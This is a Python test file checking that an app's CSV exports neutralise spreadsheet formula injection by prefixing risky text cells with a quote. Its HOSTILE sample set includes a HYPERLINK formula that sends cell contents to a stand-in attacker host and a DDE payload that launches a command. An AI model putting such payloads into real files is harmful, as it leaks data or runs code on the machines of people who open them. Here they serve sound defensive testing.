"""Every CSV SafePlay writes is safe to open in a spreadsheet (OWASP "CSV injection").

A proposal titled ``=HYPERLINK("http://…?leak="&C2, …)`` would otherwise run as a formula
on the council officer's computer and could send other cells to another host.
"""

import csv

from geo.cli import main
from geo.io import exports
from geo.permissions import COMMAND_LINE
from geo.storage.db import Store
from tests.stores import point_at

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?leak="&C2,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1,2)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
}


def _rows(path):
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_exported_titles_summaries_and_partners_cannot_start_a_formula(
    demo_store, tmp_path, monkeypatch
):
    public = "SELECT id FROM initiatives WHERE status = 'approved' OR status = 'in_progress'"
    ids = [
        row[0] for row in demo_store.cursor().execute(f"{public} ORDER BY id LIMIT 6").fetchall()
    ]
    with demo_store.write() as cursor:
        for initiative_id, text in zip(ids, HOSTILE.values(), strict=True):
            cursor.execute(
                "UPDATE initiatives SET title = ?, summary = ?, partners = ? WHERE id = ?",
                [text, text, [text], initiative_id],
            )
    target = tmp_path / "initiatives.csv"
    exports.write(exports.collect(demo_store, COMMAND_LINE, "initiatives"), "csv", target)
    written = {int(row["id"]): row for row in _rows(target)}
    for initiative_id, text in zip(ids, HOSTILE.values(), strict=True):
        row = written[initiative_id]
        assert row["title"] == row["summary"] == row["partners"] == "'" + text
    # Numbers stay numbers: the demo town lies west of Greenwich (negative longitudes).
    assert all(float(row["longitude"]) < 0 for row in written.values())
    assert not any(row["longitude"].startswith("'") for row in written.values())

    demo_store.close()  # the command line opens the database itself
    point_at(monkeypatch, demo_store.location)
    from_cli = tmp_path / "cli.csv"
    assert main(["export", "initiatives", "--format", "csv", "-o", str(from_cli)]) == 0
    assert _rows(from_cli) == _rows(target)


def test_coverage_csv_from_the_command_line_quotes_hostile_area_names(
    demo_db_file, tmp_path, monkeypatch, capsys
):
    copy = tmp_path / "demo.duckdb"
    copy.write_bytes(demo_db_file.read_bytes())
    store = Store(copy)
    with store.write() as cursor:
        cursor.execute(
            "UPDATE areas SET name = ? WHERE code = (SELECT min(code) FROM areas "
            "WHERE level = 'ward')",
            [HOSTILE["="]],
        )
    store.close()
    monkeypatch.setenv("SAFEPLAY_DB", str(copy))
    target = tmp_path / "coverage.csv"
    assert main(["coverage", "--format", "csv", "-o", str(target)]) == 0
    capsys.readouterr()
    cells = [cell for row in _rows(target) for cell in row.values()]
    assert "'" + HOSTILE["="] in cells
    # Figures stay numbers (a walking difference of -3.1 points is a number to a
    # spreadsheet, not a formula); every text cell that could start one is quoted.
    assert not [
        cell for cell in cells if cell.startswith(exports.FORMULA_STARTS) and not _number(cell)
    ]
    assert any(cell.startswith("-") and _number(cell) for cell in cells)  # the demo's streets


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_only_text_cells_are_changed():
    import pandas as pd

    table = pd.DataFrame({"figure": [-5, 3], "text": ["-5", "fine"], "gap": [None, "@x"]})
    safe = exports.spreadsheet_safe(table)
    assert safe["figure"].tolist() == [-5, 3]
    assert safe["text"].tolist() == ["'-5", "fine"]
    assert safe["gap"].iloc[1] == "'@x" and pd.isna(safe["gap"].iloc[0])


def test_no_progress_bar_can_land_in_a_csv_written_to_standard_output(tmp_path):
    """DuckDB prints one for queries over 2 s, into pipes too (found on a busy machine)."""
    store = Store(tmp_path / "bars.duckdb")
    setting = "SELECT current_setting('enable_progress_bar')"
    assert store.cursor().execute(setting).fetchone()[0] is False
